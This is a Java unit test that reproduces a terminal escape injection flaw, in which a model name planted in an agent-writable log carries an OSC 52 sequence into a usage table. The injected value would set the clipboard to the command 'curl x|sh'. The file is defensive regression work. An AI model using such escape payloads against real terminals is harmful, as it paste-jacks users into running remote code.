package dev.tandem.hub.usage;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tandem.core.store.Store;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Disabled;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Reproduction: a model name an agent writes into a Claude Code log (a file under ~/.claude/projects, which the
 * agent can write) reaches the person's terminal with its control characters when {@code tandem usage daily
 * --breakdown model} prints the table: an OSC 52 sequence sets the clipboard (paste-jacking), others retitle or
 * hide lines. The test asserts the safe outcome and is disabled until fixed.
 */
class TerminalEscapeReproTest {
    @TempDir
    Path dir;

    @Disabled("reproduces: control characters of a logged model name reach the usage table printed to the terminal")
    @Test
    void aModelNameFromALogCarriesNoControlCharactersIntoTheTable() throws IOException {
        LogHome h = new LogHome(dir);
        LogHome.copy("claude-2.1.329-project-log-full.jsonl", h.claudeProject.resolve("a.jsonl"));
        Path log = h.claudeProject.resolve("a.jsonl");
        // JSON escapes, so the reader takes the line through Jackson: ESC ] 52 ; c ; base64("curl x|sh") BEL
        String osc52 = "\\u001b]52;c;Y3VybCB4fHNo\\u0007";
        Files.writeString(
                log,
                Files.readString(log)
                        .replace("\"model\":\"claude-opus-5-5\"", "\"model\":\"claude-opus-5-5" + osc52 + "\""));
        Report r;
        try (Store store = h.store()) {
            h.scanner(store).scan(Duration.ZERO);
            r = new Ledger(store.usage(), h.settings(), Clock.systemUTC())
                    .daily(new Query("all", Optional.empty(), Optional.empty(), true));
        }
        StringWriter out = new StringWriter();
        new ReportTable(h.home).print(r, new PrintWriter(out, true));
        String table = out.toString();
        assertTrue(table.contains("claude-opus-5-5"), table);
        assertFalse(table.contains("\u001b"), table.replace("\u001b", "<ESC>").replace("\u0007", "<BEL>"));
    }
}
